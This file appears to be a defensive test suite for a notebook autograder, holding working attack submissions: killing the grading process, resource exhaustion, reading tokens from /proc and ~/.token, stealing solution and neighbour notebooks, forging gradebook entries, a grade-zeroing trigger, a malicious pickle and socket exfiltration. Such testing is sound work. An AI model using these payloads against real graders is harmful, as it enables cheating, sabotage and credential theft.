"""Attacks by a running process on what surrounds it: classes 4, 6, 9, 10 and the second half of 5."""

from tests.grading.attacks.record import PLAIN, Effect, Stock, define, registrar

ATTACKS = []

PORT = 47911  # where the harness listens, on this machine alone


attack = registrar(ATTACKS)


# The folders above, as far as the root of the course: where a gradebook or a source lies.
FIND_COURSE = """
import pathlib
COURSE = next((p for p in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents] if (p / 'gradebook.db').exists()), None)
"""


# 4 exit -----------------------------------------------------------------------------------------------------


@attack("os-exit", (4,), "One function ends the process.", Stock(Effect.UNGRADED), deserves=28, line="os-exit")
def os_exit(kit):
    return kit.solved(mean_waiting_time=define("mean_waiting_time", "import os\nos._exit(0)"))


@attack(
    "system-exit",
    (4,),
    "A cell and a function raise `SystemExit`, and ask the shell to leave.",
    Stock(Effect.NONE, note="costs its question only"),
    deserves=28,
)
def system_exit(kit):
    return kit.solved(mean_waiting_time=define("mean_waiting_time", "raise SystemExit(0)"))


@attack(
    "quit-kernel",
    (4, 3),
    "A function calls `exit()`, which shuts the kernel down behind the reply.",
    Stock(Effect.UNGRADED),
    deserves=28,
)
def quit_kernel(kit):
    body = "get_ipython().ask_exit()\nget_ipython().kernel.shell.exit_now = True\nraise SystemExit"
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack("segmentation-fault", (4,), "Memory at address 0 is read.", Stock(Effect.UNGRADED), deserves=28)
def segmentation_fault(kit):
    return kit.solved(mean_waiting_time=define("mean_waiting_time", "import ctypes\nreturn ctypes.string_at(0)"))


@attack("stack-overflow", (4, 9), "Recursion without a limit overruns the stack.", Stock(Effect.UNGRADED), deserves=28)
def stack_overflow(kit):
    body = "import sys\nsys.setrecursionlimit(10**9)\nf = lambda x: repr_(x)\nrepr_ = lambda x: f([x])\nreturn f(0)"
    deep = "import sys, json\nsys.setrecursionlimit(10**9)\nx = []\nfor _ in range(10**6): x = [x]\nreturn len(repr(x))"
    del body
    return kit.solved(mean_waiting_time=define("mean_waiting_time", deep))


@attack(
    "kill-the-parent", (4,), "The process above is killed: the one that grades.", Stock(Effect.ABORTED), deserves=28
)
def kill_the_parent(kit):
    body = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nreturn 0.0"
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack(
    "child-left-behind",
    (4,),
    "A child in a session of its own sleeps on when the grading is over.",
    Stock(Effect.SURVIVED, 1, unit="processes"),
    deserves=28,
)
def child_left_behind(kit):
    body = """
    import subprocess, sys
    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)  # acme-survivor'], start_new_session=True)
    return 0.0
    """
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


GIFT = """
import sqlite3
def give(name):
    with sqlite3.connect(COURSE / 'gradebook.db', timeout=20) as book:
        mine = '''notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a
                  ON n.assignment_id = a.id WHERE a.student_id = ?)'''
        book.execute('UPDATE grade SET extra_credit = 2 WHERE ' + mine, (name,))
"""


def _named(name, code):
    """Return `code` for a student of this name (a student knows it)."""
    return code.replace("NAME", repr(name))


@attack(
    "at-exit", (4, 6), "A function of `atexit` writes the gradebook when the kernel ends.", Stock(Effect.POINTS, 30)
)
def at_exit(kit):
    return kit.functions("return 0.0", FIND_COURSE + GIFT + "import atexit\natexit.register(give, 'at-exit')\n")


@attack(
    "thread-left-behind",
    (4, 9),
    "Threads that never end keep running between the calls, and change the answers' module.",
    Stock(Effect.NONE, note="the kernel ends with the notebook; it only slows the rest"),
    deserves=28,
)
def thread_left_behind(kit):
    body = """
    import threading, time
    def spin():
        end = time.time() + 120
        while time.time() < end:
            globals()['stationary_law_'] = None
            time.sleep(0.001)
    for _ in range(3):
        threading.Thread(target=spin, daemon=False).start()
    return 0.0
    """
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


# 5 reading answers on the machine -----------------------------------------------------------------------------


def _take(finding):
    """Return code that finds a notebook and runs the student cells in it."""
    return (
        FIND_COURSE
        + "import glob, json\nimport numpy as np\n"
        + finding
        + """
for path in FOUND:
    for cell in json.load(open(path))['cells']:
        if cell['cell_type'] == 'code' and cell['metadata'].get('nbgrader', {}).get('solution'):
            exec(''.join(cell['source']), globals())
"""
    )


def _only_first(kit, code):
    """Return a notebook whose last answer cell runs `code`; the functions come from there."""
    answers = {name: "pass" for name in kit.questions}
    answers[kit.questions[0]] = code.strip()
    return kit.fill(answers)


@attack(
    "solution-file",
    (5,),
    "The instructor's notebook is found in the folders above, and its answers are executed.",
    Stock(Effect.POINTS, 30),
)
def solution_file(kit):
    find = "FOUND = glob.glob(f'{COURSE}/source/*/*.ipynb') + glob.glob(f'{COURSE}/solutions/*/*.ipynb')"
    return _only_first(kit, _take(find))


@attack(
    "neighbours-file",
    (5, 12),
    "The submission of a neighbour is read, and its answers are executed.",
    Stock(Effect.POINTS, 30),
)
def neighbours_file(kit):
    return _only_first(kit, _take("FOUND = glob.glob(f'{COURSE}/submitted/zz-neighbour/*/*.ipynb')"))


@attack(
    "solution-anywhere",
    (5,),
    "The folder of the library leads to the repository, and to its solutions.",
    Stock(Effect.POINTS, 30),
)
def solution_anywhere(kit):
    find = """
import importlib.util, sys
places = [*sys.path, str(pathlib.Path(importlib.util.find_spec('acme_lib').origin).parents[1])]
FOUND = [f for p in places for kind in ('source', 'solutions') for f in glob.glob(f'{p}/{kind}/01_*/*.ipynb')]
"""
    return _only_first(kit, _take(find))


@attack(
    "hidden-tests-in-the-gradebook",
    (5, 10),
    "The hidden tests are read from the gradebook and printed for the next try.",
    Stock(Effect.LEAKED),
)
def gradebook_read(kit):
    code = """
import sqlite3
with sqlite3.connect(COURSE / 'gradebook.db') as book:
    for source, in book.execute("SELECT source FROM source_cell"):
        print(source)
"""
    return kit.functions("return 0.0", FIND_COURSE + code)


@attack(
    "environment-of-the-parent",
    (5,),
    "Environment and command line of the processes above are read from `/proc`.",
    Stock(Effect.LEAKED),
)
def proc_environ(kit):
    code = """
import glob, os
print({k: v for k, v in os.environ.items() if 'CANARY' in v or 'TOKEN' in k})
for path in glob.glob('/proc/[0-9]*/environ'):
    try:
        print([x for x in open(path, 'rb').read().split(b'\\0') if b'CANARY' in x])
    except OSError:
        pass
"""
    return kit.functions("return 0.0", code)


@attack("shell-magic", (5, 3), "A shell escape prints files of the grader.", Stock(Effect.LEAKED))
def shell_magic(kit):
    code = """
!cat ~/.token 2>/dev/null
!cat ../../../submitted/zz-neighbour/*/*.ipynb 2>/dev/null | grep CANARY
"""
    return kit.functions("return 0.0", code)


@attack(
    "memory-of-others",
    (5,),
    "What an earlier submission left in memory, in `/tmp` or in open files is searched.",
    Stock(Effect.LEAKED),
)
def memory_of_others(kit):
    code = """
import gc, glob, os
print([x for x in gc.get_objects() if type(x) is dict and 'CANARY' in ''.join(map(str, x.values()))[:9999]][:3])
for path in [*glob.glob('/tmp/**', recursive=True), *glob.glob('/dev/shm/*'), *glob.glob('/proc/self/fd/*')]:
    try:
        if os.path.isfile(path) and os.path.getsize(path) < 10**6:
            text = open(path, 'rb').read()
            if b'CANARY' in text and b'_of_others' not in text:
                print(path, text[max(0, text.index(b'CANARY') - 20):][:200])
    except OSError:
        pass
"""
    return kit.functions("return 0.0", code)


# 6 forging results ------------------------------------------------------------------------------------------


@attack("extra-credit", (6,), "The student writes extra credit into the gradebook.", Stock(Effect.POINTS, 30))
def extra_credit(kit):
    return kit.functions("return 0.0", FIND_COURSE + GIFT + "give('extra-credit')\n")


@attack(
    "gradebook-trigger",
    (6,),
    "A trigger in the gradebook turns the grades of everybody else to zero.",
    Stock(Effect.TAMPERED),
)
def gradebook_trigger(kit):
    code = """
import sqlite3
with sqlite3.connect(COURSE / 'gradebook.db', timeout=20) as book:
    book.execute('''CREATE TRIGGER gift AFTER UPDATE OF auto_score ON grade WHEN NEW.auto_score > 0
                    BEGIN UPDATE grade SET auto_score = 0 WHERE id = NEW.id; END''')
"""
    return kit.functions("return 0.0", FIND_COURSE + code)


@attack(
    "vandal",
    (6,),
    "The submission of a neighbour, and the instructor's source, are overwritten.",
    Stock(Effect.TAMPERED),
)
def vandal(kit):
    code = """
for path in [*COURSE.glob('submitted/zz-neighbour/*/*.ipynb'), *COURSE.glob('source/*/*.ipynb')]:
    path.write_text(path.read_text().replace('return', 'return None #'))
"""
    return kit.functions("return 0.0", FIND_COURSE + code)


@attack(
    "forged-messages",
    (6, 3),
    "Results are published in the name of the cell, over the kernel's own sockets.",
    Stock(Effect.POINTS, 30),
)
def forged_messages(kit):
    body = """
    kernel = get_ipython().kernel
    kernel.session.send(kernel.iopub_socket, 'execute_result', {'data': {'text/plain': "'ok'"}, 'metadata': {},
                        'execution_count': 1}, parent=kernel.get_parent('shell'))
    return 0.0
    """
    return kit.functions(body)


@attack(
    "forged-replies",
    (6, 4),
    "Text that looks like a reply of the grader's protocol is written to every open file, ahead of the answer.",
    Stock(Effect.NONE, note="nbgrader reads none of the files that a cell may open by number"),
)
def forged_replies(kit):
    body = """
    import json, os
    for text in (b'{"value": 0.125, "printed": "", "id": 1}\\n', b'{"ok": true, "passed": true, "score": 2}\\n'):
        frame = len(text).to_bytes(4, 'little') + text
        for number in range(3, 8):
            for data in (text, frame, len(text).to_bytes(4, 'big') + text, len(text).to_bytes(8, 'little') + text):
                try:
                    if os.fstat(number).st_mode & 0o170000 == 0o010000:
                        os.write(number, data)
                except OSError:
                    pass
    return 0.0
    """
    return kit.functions(body)


@attack(
    "stdout-markers",
    (6,),
    "Lines that a log reader could take for results are printed.",
    Stock(Effect.NONE, note="printed text is no grade; it fills the log"),
)
def stdout_markers(kit):
    body = """
    import os, sys
    for text in ('PASSED', '{"score": 2.0, "max_score": 2.0}', '::set-output name=grade::34', '##ACME## 34/34'):
        print(text)
        print(text, file=sys.stderr)
        os.write(1, text.encode())
    return 0.0
    """
    return kit.functions(body)


def _unpickled(folder):
    import pickle

    from tests.grading.attacks.payload import Payload

    marker = folder / "unpickled"
    pickle.loads(pickle.dumps(Payload(str(marker))))
    assert marker.exists()


PICKLE = """
import builtins, os
class Answer(float):
    def __reduce__(self):
        return exec, ("import pathlib\\nfor p in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:\\n"
                      "    if (p / 'gradebook.db').exists(): (p / 'unpickled').write_text('CANARY')", {})
"""


@attack(
    "malicious-pickle",
    (6,),
    "The answer runs code when it is unpickled, alone and inside an array of objects.",
    Stock(Effect.NONE, note="nothing is pickled; a grader that did would run it", shown=_unpickled),
)
def malicious_pickle(kit):
    return kit.functions(
        "import numpy as np\nreturn np.array([Answer(1.0)], dtype=object) if given else Answer()", PICKLE
    )


@attack(
    "pickle-by-patch",
    (6, 2),
    "The far side's own encoders are patched, to send pickles and arrays of objects in place of plain data.",
    Stock(Effect.UNGRADED, note="`json.dumps` no longer works in the kernel"),
)
def pickle_by_patch(kit):
    code = (
        PICKLE
        + """
import gc, io, json, pickle, struct, sys
import numpy as np
EVIL = pickle.dumps(Answer(1.0))
buffer = io.BytesIO()
np.save(buffer, np.array([Answer(1.0)], dtype=object), allow_pickle=True)
def save(*given, **named): given[0].write(buffer.getvalue()) if hasattr(given[0], 'write') else None
np.save = np.lib.format.write_array = save
json.dumps = lambda *given, **named: EVIL.decode('latin-1')
for module in list(sys.modules.values()):
    if getattr(module, '__name__', '').endswith('.wire'):
        module.encode = lambda *given, **named: EVIL
"""
    )
    return kit.functions("return Answer()", code)


# 9 resources ------------------------------------------------------------------------------------------------


@attack(
    "memory",
    (9,),
    "Memory is taken until there is none.",
    Stock(Effect.EXHAUSTED, 2 * 2**30, unit="memory", note="stopped by the test's own limit"),
    deserves=28,
)
def memory(kit):
    body = """
    blocks = []
    while len(blocks) < 160:
        blocks.append(b'x' * 2**25)
    return len(blocks)
    """
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack(
    "processes",
    (9, 4),
    "A great many processes are started (150 here; a fork bomb would not stop).",
    Stock(Effect.EXHAUSTED, 100, unit="processes"),
    deserves=28,
)
def processes(kit):
    body = """
    import os, time
    for _ in range(150):
        if os.fork() == 0:
            os.setsid()
            time.sleep(90)  # acme-survivor
            os._exit(0)
    return 0.0
    """
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack(
    "disk", (9,), "The disk is filled (600 MB here).", Stock(Effect.EXHAUSTED, 500 * 2**20, unit="disk"), deserves=28
)
def disk(kit):
    body = """
    import os
    for folder in (os.getcwd(), '/tmp', '/dev/shm', '/var/tmp'):
        try:
            for i in range(12):
                with open(f'{folder}/filler-{i}', 'wb') as file:
                    file.write(b'x' * 50 * 2**20)
            break
        except OSError:
            continue
    return 0.0
    """
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack(
    "many-files", (9,), "A hundred thousand files are made.", Stock(Effect.EXHAUSTED, 50_000, unit="files"), deserves=28
)
def many_files(kit):
    body = """
    import os
    for i in range(100_000):
        with open(f'f{i}', 'w'):
            pass
    return 0.0
    """
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack("output-flood", (9,), "A cell prints without end.", Stock(Effect.UNGRADED), deserves=28)
def output_flood(kit):
    flood = "\nimport sys\nwhile True:\n    print('x' * 10000)\n"
    return kit.solved(mean_waiting_time=define("mean_waiting_time", "return 0.0") + flood)


@attack("endless-loop", (9,), "A function does not return.", Stock(Effect.UNGRADED), deserves=28)
def endless_loop(kit):
    body = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass"
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack(
    "gil-holding-loop",
    (9,),
    "One call into C holds the interpreter's lock, so that no signal and no other thread gets through.",
    Stock(Effect.UNGRADED),
    deserves=28,
)
def gil_holding(kit):
    body = "return sum(range(10**13))"
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack(
    "slow-drip",
    (9,),
    "Each call sleeps just less than the limit of a cell.",
    Stock(Effect.EXHAUSTED, 25, unit="seconds"),
    deserves=28,
)
def slow_drip(kit):
    body = "import time\ntime.sleep(12)\nreturn 0.125 if 3.0 in given[0] else float('inf')"
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack(
    "oversized-answer",
    (9,),
    "The answer has a hundred million numbers, then a gigabyte of text, then lists inside lists without end.",
    Stock(Effect.NONE, note="the check cells limit what they read"),
    deserves=26,
)
def oversized(kit):
    lists = "x = []\nfor _ in range(100_000): x = [x]\nreturn x"
    return kit.solved(
        mean_waiting_time=define("mean_waiting_time", "import numpy as np\nreturn np.zeros(10**8)"),
        reaction_probabilities=define("reaction_probabilities", lists),
    )


@attack(
    "cyclic-answer",
    (9, 1),
    "The answer contains itself; another is an integer of a million digits.",
    Stock(Effect.NONE, note="the check cells refuse both"),
    deserves=26,
)
def cyclic(kit):
    return kit.solved(
        mean_waiting_time=define("mean_waiting_time", "x = []\nx.append(x)\nreturn x"),
        reaction_probabilities=define("reaction_probabilities", "return 7 ** 1_200_000"),
    )


# 10 side channels -------------------------------------------------------------------------------------------


@attack("network", (10, 5), "What was read is sent out over the network.", Stock(Effect.LEAKED))
def network(kit):
    code = f"""
import socket
try:
    text = ''.join(p.read_text() for p in COURSE.glob('submitted/zz-neighbour/*/*.ipynb'))
except Exception as error:
    text = 'CANARY-CALL-HOME'
with socket.create_connection(('127.0.0.1', {PORT}), timeout=5) as line:
    line.sendall(text.encode())
"""
    return kit.functions("return 0.0", FIND_COURSE + code)


@attack(
    "letters-by-kind",
    (10,),
    "What is asked by a hidden check decides of which kind the answer is, which a message would name: a letter each.",
    Stock(Effect.NONE, note="the check cells name no kind of a hidden answer, wherever they run"),
)
def letters_by_kind(kit):
    visible = (
        "if tuple(given[0]) in ((3.0, 0.0, 5.0), (0.0, 0.0)):\n    return 0.125 if any(given[0]) else float('inf')"
    )
    letters = "import decimal, fractions\nwords = decimal.Decimal, fractions.Fraction, frozenset"
    spoken = "return words[int(1000 * sum(given[0])) % 3]()"
    return kit.fill({"mean_waiting_time": define("mean_waiting_time", f"{visible}\n{letters}\n{spoken}")})


@attack(
    "hidden-values-in-errors",
    (10, 5),
    "The hidden arguments are put into the text of an error, for the feedback page.",
    Stock(Effect.LEAKED, assignment=PLAIN),
)
def hidden_in_errors(kit):
    body = """
    if given in ((2.0, 0.0), (1.0, 0.0), (5.0, 0.0)):
        return given[0]
    raise ValueError('CANARY-ARGUMENTS ' + repr(given))
    """
    if kit.assignment == PLAIN:
        return kit.functions(body)
    # The visible checks are passed; what comes then is hidden.
    first = """
import inspect
def give_away(given):
    raise ValueError('CANARY-ARGUMENTS ' + repr(given))
"""
    visible = (
        "if tuple(given[0]) in ((3.0, 0.0, 5.0), (0.0, 0.0)):\n    return 0.125 if any(given[0]) else float('inf')\n"
    )
    return kit.fill(
        {
            "mean_waiting_time": first
            + define("mean_waiting_time", visible + "print('CANARY-ARGUMENTS', given)\ngive_away(given)")
        }
    )


@attack("hidden-values-printed", (10,), "The hidden arguments are printed.", Stock(Effect.LEAKED, assignment=PLAIN))
def hidden_printed(kit):
    body = "import sys\nprint('CANARY-ARGUMENTS', given)\nsys.stdout.flush()\nreturn 0.0"
    if kit.assignment == PLAIN:
        visible = "if given in ((2.0, 0.0), (1.0, 0.0), (5.0, 0.0)): return given[0]\n"
        return kit.functions(visible + body)
    visible = (
        "if tuple(given[0]) in ((3.0, 0.0, 5.0), (0.0, 0.0)):\n    return 0.125 if any(given[0]) else float('inf')\n"
    )
    return kit.fill({"mean_waiting_time": define("mean_waiting_time", visible + body)})


@attack(
    "hidden-values-on-disk",
    (10, 5),
    "The hidden arguments are noted in a file, and read back in the next try.",
    Stock(Effect.LEAKED, assignment=PLAIN),
)
def hidden_on_disk(kit):
    note = "with open('notes.txt', 'a') as file:\n    file.write('CANARY-ARGUMENTS ' + repr(given) + '\\n')\n"
    if kit.assignment == PLAIN:
        return kit.functions(note + "return given[0] if given in ((2.0, 0.0), (1.0, 0.0), (5.0, 0.0)) else 0.0")
    read = "\ntry:\n    print(open('notes.txt').read())\nexcept OSError:\n    pass\n"
    visible = "return 0.125 if 3.0 in given[0] else float('inf')"
    return kit.fill({"mean_waiting_time": define("mean_waiting_time", note + visible) + read})


@attack(
    "hidden-values-in-type-names",
    (10, 5),
    "The hidden arguments are the name of an error's type, and of the answer's.",
    Stock(Effect.LEAKED, assignment=PLAIN),
)
def hidden_in_type_names(kit):
    body = "\nname = 'CANARY-ARGUMENTS ' + repr(given)\n"
    body += "if len(name) % 2: return type(name, (), {})()\nraise type(name, (Exception,), {})()\n"
    if kit.assignment == PLAIN:
        return kit.functions("if given in ((2.0, 0.0), (1.0, 0.0), (5.0, 0.0)): return given[0]" + body)
    visible = "if 3.0 in given[0] or not any(given[0]): return 0.125 if any(given[0]) else float('inf')"
    return kit.fill({"mean_waiting_time": define("mean_waiting_time", visible + body)})


@attack(
    "hidden-values-remembered",
    (10, 5),
    "The hidden arguments are remembered, and told at the next visible check.",
    Stock(Effect.LEAKED, assignment=PLAIN),
    deserves=4,
)
def hidden_remembered(kit):
    if kit.assignment == PLAIN:
        first = "SEEN = []"
        body = """
        SEEN.append(given)
        if given[0] == 1.0 and len(SEEN) > 2: raise ValueError('CANARY-ARGUMENTS ' + repr(SEEN[1]))
        return given[0]
        """
        return kit.functions(body, first)
    # Question 1 is answered, and sees hidden counts and rates; question 2 tells them.
    tell = (
        "hidden = [x for x in SEEN if tuple(x[0]) not in ((3, 4), (0, 7), (4, 0), (1, 0))]\n"
        "print('CANARY-ARGUMENTS', hidden[-1])\nraise ValueError('CANARY-ARGUMENTS ' + repr(hidden[-1]))"
    )
    right = "SEEN.append(given)\na, b = given[0]\nk, gamma, c, d = given[1]\n"
    right += "return [k, gamma * a, c * a * (a - 1) / 2, d * a * b]"
    seen = "SEEN = []\n\n\n" + define("propensities", right)
    return kit.fill({"propensities": seen, "mean_waiting_time": define("mean_waiting_time", tell)})


@attack(
    "costly-answer",
    (9,),
    "Each answer is a list of a million lists, just within the limits, which the grader has to read.",
    Stock(Effect.NONE, note="costs seconds"),
    deserves=28,
)
def costly_answer(kit):
    body = "return [[0.5, 0.5, 0.5]] * 240_000"
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack(
    "forged-frames",
    (6, 4),
    "Frames in the form of the grader's own protocol are written to every open socket, with many numbers of a request.",
    Stock(Effect.UNGRADED, alone=True, note="now and then nbgrader waits for the kernel for ever"),
    deserves=28,
)
def forged_frames(kit):
    body = """
    import json, os, stat, struct
    for number in range(64):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
            for guess in range(200):
                text = json.dumps({'d': [['value', 0.125], ['printed', ''], ['id', guess]]}).encode()
                frame = b'acme' + struct.pack('<IH', len(text), 0) + text
                os.write(number, struct.pack('<Q', len(frame)) + frame)
        except OSError:
            continue
    return 0.125
    """
    return kit.solved(mean_waiting_time=define("mean_waiting_time", body))


@attack(
    "forged-markers",
    (6, 1),
    "The answer is made of the grader's own markers: a function of its side, a seed, a value that is not plain.",
    Stock(Effect.NONE, note="no plain data, and no such protocol"),
    deserves=22,
)
def forged_markers(kit):
    load = "from acme_lib.grade.boundary import wire\n"
    answers = {
        "mean_waiting_time": load + "return wire.OwnFunction('check_values')",
        "reaction_probabilities": load
        + "return [wire.Seed(1), wire.FunctionOfOtherSide(0), wire.NotPlainValue('x' * 999)]",
        "time_average": load + "return wire.FunctionOfOtherSide(1), {'a': 7}",
    }
    return kit.solved(**{name: define(name, body) for name, body in answers.items()})
